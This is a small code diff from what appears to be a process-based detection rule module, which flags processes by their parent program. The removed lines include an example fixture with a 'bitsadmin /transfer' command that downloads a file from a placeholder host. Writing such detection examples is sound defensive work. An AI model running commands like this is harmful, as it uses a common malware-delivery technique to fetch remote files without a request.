@@ -18,5 +18,4 @@ export const parentSignals: readonly Signal[] = parents.map(([id, impact, confid
     const name = programName(facts.parent.image);
     return facts.evidence === 'process' && isPersonsTool(facts) && names.includes(name) ? `the parent is ${name}: ${sentence}` : undefined;
   },
-  examples: [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://files.example.net/a C:\\d\\a', parent_process_name: `${names[0] ?? ''}.exe`, parent_process_path: `C:\\d\\${names[0] ?? ''}.exe` }],
 }));
